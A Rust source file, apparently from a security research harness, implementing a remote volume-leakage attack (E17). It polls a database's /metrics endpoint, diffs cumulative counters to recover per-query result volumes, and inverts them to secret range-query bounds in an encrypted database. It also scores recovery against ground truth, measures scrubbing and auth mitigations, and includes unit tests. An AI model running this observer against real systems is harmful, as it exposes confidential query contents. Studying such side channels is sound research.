//! The scrape-channel volume attack (E17): a *remote* observer that
//! only polls `GET /metrics` recovers per-query result volumes.
//!
//! Every attack before this one needed the paper's snapshot adversary —
//! disk images, memory dumps, logs. This one needs a TCP route to the
//! status port. The counters a production DBMS exports for dashboards
//! (`sql.statements`, per-table access counts, the `sql.rows_returned`
//! histogram's `_sum`) are *cumulative*, so the difference between two
//! consecutive scrapes is exactly the work done in that window. When at
//! most one query lands per scrape window, the delta IS that query's
//! result volume — and result volumes are the entire input the
//! volume-based attacks on encrypted databases need (see
//! "Practical Volume-Based Attacks on Encrypted Databases"): against an
//! EDB whose range queries return `k+1` rows for secret bound `k`, the
//! volume inverts to the plaintext query parameter outright.
//!
//! The pipeline here is deliberately honest about its observation
//! limits: windows where the query counter moved by more than one are
//! *merged* — the observer sees only the sum of the colliding volumes
//! and reports them unrecovered. E17 measures exactly this: recovery
//! rate vs scrape interval, and the channel narrowing under the
//! `ObsOptions::scrub` / auth-gating mitigations.

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::Duration;

use mdb_obs::{http, prom};
use parking_lot::Mutex;

/// One observed scrape: every numeric series the exposition yielded,
/// keyed by the *original* metric name (recovered from the `name`
/// label; histogram `_sum`/`_count` series keyed `<name>.sum` /
/// `<name>.count`).
#[derive(Clone, Debug, Default)]
pub struct Scrape {
    /// Milliseconds since the observer started, at receive time.
    pub at_ms: u64,
    /// Series name → value.
    pub counters: BTreeMap<String, u64>,
}

/// Parses one `/metrics` body into a [`Scrape`]. Returns `None` when
/// the body is not a well-formed exposition (the observer records the
/// scrape as missing rather than inventing zeros).
pub fn parse_scrape(at_ms: u64, body: &str) -> Option<Scrape> {
    let samples = prom::parse(body)?;
    let mut counters = BTreeMap::new();
    for s in &samples {
        let Some(name) = s.metric_name() else {
            continue;
        };
        if s.series.ends_with("_bucket") || s.series.ends_with("_rate") {
            continue;
        }
        let key = if s.series.ends_with("_sum") {
            format!("{name}.sum")
        } else if s.series.ends_with("_count") {
            format!("{name}.count")
        } else {
            name.to_string()
        };
        if let Some(v) = s.value_u64() {
            counters.insert(key, v);
        }
    }
    Some(Scrape { at_ms, counters })
}

/// What one scrape attempt produced.
#[derive(Clone, Debug)]
pub enum Observation {
    /// A parsed exposition.
    Scrape(Scrape),
    /// The endpoint refused us (`401` — the auth mitigation working).
    Denied(u16),
    /// Transport-level failure.
    Unreachable,
}

/// A remote observer: a thread that polls `/metrics` at a fixed
/// interval, exactly like a Prometheus scraper — and with exactly a
/// Prometheus scraper's powers. No disk, no memory, no SQL.
pub struct RemoteObserver {
    observations: Arc<Mutex<Vec<Observation>>>,
    shutdown: Arc<AtomicBool>,
    handle: Option<JoinHandle<()>>,
}

impl RemoteObserver {
    /// Starts polling `addr` every `interval`, optionally presenting a
    /// bearer token.
    pub fn start(addr: SocketAddr, interval: Duration, bearer: Option<String>) -> RemoteObserver {
        let observations: Arc<Mutex<Vec<Observation>>> = Arc::default();
        let shutdown = Arc::new(AtomicBool::new(false));
        let handle = {
            let observations = Arc::clone(&observations);
            let shutdown = Arc::clone(&shutdown);
            std::thread::spawn(move || {
                let started = std::time::Instant::now();
                while !shutdown.load(Ordering::SeqCst) {
                    let at_ms = started.elapsed().as_millis() as u64;
                    let obs = match http::get(addr, "/metrics", bearer.as_deref()) {
                        Ok((200, body)) => match parse_scrape(at_ms, &body) {
                            Some(s) => Observation::Scrape(s),
                            None => Observation::Unreachable,
                        },
                        Ok((status, _)) => Observation::Denied(status),
                        Err(_) => Observation::Unreachable,
                    };
                    observations.lock().push(obs);
                    std::thread::sleep(interval);
                }
            })
        };
        RemoteObserver {
            observations,
            shutdown,
            handle: Some(handle),
        }
    }

    /// Attempts completed so far — scrapes, denials and failures alike.
    pub fn observed(&self) -> usize {
        self.observations.lock().len()
    }

    /// Stops polling and returns everything observed.
    pub fn stop(mut self) -> Vec<Observation> {
        self.shutdown.store(true, Ordering::SeqCst);
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
        std::mem::take(&mut *self.observations.lock())
    }
}

/// Successful scrapes only, in order.
pub fn scrapes(observations: &[Observation]) -> Vec<Scrape> {
    observations
        .iter()
        .filter_map(|o| match o {
            Observation::Scrape(s) => Some(s.clone()),
            _ => None,
        })
        .collect()
}

/// Number of denied attempts (the auth mitigation's score).
pub fn denied_count(observations: &[Observation]) -> usize {
    observations
        .iter()
        .filter(|o| matches!(o, Observation::Denied(_)))
        .count()
}

/// Per-window delta of `key` between consecutive scrapes. A key absent
/// from either endpoint of a window yields 0 for that window (scrubbed
/// series simply stop moving, from the observer's point of view).
pub fn window_deltas(scrapes: &[Scrape], key: &str) -> Vec<u64> {
    scrapes
        .windows(2)
        .map(|w| {
            let before = w[0].counters.get(key).copied().unwrap_or(0);
            let after = w[1].counters.get(key).copied().unwrap_or(0);
            after.saturating_sub(before)
        })
        .collect()
}

/// One reconstructed window.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum WindowInference {
    /// No query landed in this window.
    Idle,
    /// Exactly one query landed: its result volume is the delta.
    Isolated { volume: u64 },
    /// `queries` queries collided in one window; only their combined
    /// volume is visible.
    Merged { queries: u64, combined_volume: u64 },
}

/// Reconstructs per-window query activity from two counter streams: a
/// *query count* key (how many queries ran — e.g. the per-table access
/// counter, or `sql.statements` when tables are scrubbed) and a
/// *volume* key (total rows returned — the `sql.rows_returned`
/// histogram's `.sum`).
pub fn infer_windows(
    scrapes: &[Scrape],
    query_count_key: &str,
    volume_key: &str,
) -> Vec<WindowInference> {
    let queries = window_deltas(scrapes, query_count_key);
    let volumes = window_deltas(scrapes, volume_key);
    queries
        .iter()
        .zip(&volumes)
        .map(|(&q, &v)| match q {
            0 => WindowInference::Idle,
            1 => WindowInference::Isolated { volume: v },
            n => WindowInference::Merged {
                queries: n,
                combined_volume: v,
            },
        })
        .collect()
}

/// The isolated (one-query-per-window) volumes, in observation order.
pub fn isolated_volumes(windows: &[WindowInference]) -> Vec<u64> {
    windows
        .iter()
        .filter_map(|w| match w {
            WindowInference::Isolated { volume } => Some(*volume),
            _ => None,
        })
        .collect()
}

/// Scoreboard for one attack run.
#[derive(Clone, Debug, Default)]
pub struct VolumeRecovery {
    /// Volumes the observer isolated, one per recovered query.
    pub recovered: Vec<u64>,
    /// Queries that collided into merged windows (volume unresolved).
    pub merged_queries: u64,
    /// True query volumes, as issued by the victim's client.
    pub truth: Vec<u64>,
    /// Multiset fraction of true volumes the observer recovered exactly.
    pub recovery_rate: f64,
}

/// Scores recovered volumes against ground truth as a multiset match:
/// each true volume is creditable at most once, order-independent
/// (volumes are the leak, not their order — and this scores honestly
/// even when windows drop or merge).
pub fn evaluate(windows: &[WindowInference], truth: &[u64]) -> VolumeRecovery {
    let recovered = isolated_volumes(windows);
    let merged_queries = windows
        .iter()
        .map(|w| match w {
            WindowInference::Merged { queries, .. } => *queries,
            _ => 0,
        })
        .sum();
    let mut remaining: BTreeMap<u64, usize> = BTreeMap::new();
    for &t in truth {
        *remaining.entry(t).or_default() += 1;
    }
    let mut hits = 0usize;
    for &r in &recovered {
        if let Some(n) = remaining.get_mut(&r) {
            if *n > 0 {
                *n -= 1;
                hits += 1;
            }
        }
    }
    VolumeRecovery {
        recovered,
        merged_queries,
        truth: truth.to_vec(),
        recovery_rate: if truth.is_empty() {
            0.0
        } else {
            hits as f64 / truth.len() as f64
        },
    }
}

/// Inverts a recovered volume back to the victim's secret range bound,
/// for the E17 victim's query family `ts >= 0 AND ts <= k*step` over a
/// dense table (`volume = k + 1`). `None` when the volume is impossible
/// (zero — range queries on the fixture always match the row at 0).
pub fn invert_range_volume(volume: u64) -> Option<u64> {
    volume.checked_sub(1)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scrape(at_ms: u64, pairs: &[(&str, u64)]) -> Scrape {
        Scrape {
            at_ms,
            counters: pairs.iter().map(|(k, v)| (k.to_string(), *v)).collect(),
        }
    }

    #[test]
    fn deltas_and_inference_classify_windows() {
        let scrapes = vec![
            scrape(0, &[("q", 0), ("rows.sum", 0)]),
            scrape(100, &[("q", 1), ("rows.sum", 7)]), // isolated: 7
            scrape(200, &[("q", 1), ("rows.sum", 7)]), // idle
            scrape(300, &[("q", 3), ("rows.sum", 12)]), // merged: 2 queries, 5 rows
            scrape(400, &[("q", 4), ("rows.sum", 13)]), // isolated: 1
        ];
        let windows = infer_windows(&scrapes, "q", "rows.sum");
        assert_eq!(
            windows,
            vec![
                WindowInference::Isolated { volume: 7 },
                WindowInference::Idle,
                WindowInference::Merged {
                    queries: 2,
                    combined_volume: 5
                },
                WindowInference::Isolated { volume: 1 },
            ]
        );
        assert_eq!(isolated_volumes(&windows), vec![7, 1]);
    }

    #[test]
    fn evaluate_scores_multiset_overlap() {
        let windows = vec![
            WindowInference::Isolated { volume: 7 },
            WindowInference::Isolated { volume: 7 },
            WindowInference::Isolated { volume: 3 },
            WindowInference::Merged {
                queries: 2,
                combined_volume: 9,
            },
        ];
        // Truth has one 7 — the second recovered 7 must not double-count.
        let r = evaluate(&windows, &[7, 3, 4, 5]);
        assert_eq!(r.merged_queries, 2);
        assert!((r.recovery_rate - 0.5).abs() < 1e-9);
    }

    #[test]
    fn parse_scrape_reads_exposition_counters_and_sums() {
        let registry = mdb_telemetry::Registry::new();
        registry.counter("sql.statements").add(4);
        registry.histogram("sql.rows_returned").record(9);
        let body = prom::encode(&registry.snapshot(), &[]);
        let s = parse_scrape(50, &body).unwrap();
        assert_eq!(s.counters.get("sql.statements"), Some(&4));
        assert_eq!(s.counters.get("sql.rows_returned.sum"), Some(&9));
        assert_eq!(s.counters.get("sql.rows_returned.count"), Some(&1));
        assert_eq!(s.at_ms, 50);
    }

    #[test]
    fn range_volume_inverts_to_secret_bound() {
        assert_eq!(invert_range_volume(1), Some(0));
        assert_eq!(invert_range_volume(11), Some(10));
        assert_eq!(invert_range_volume(0), None);
    }
}
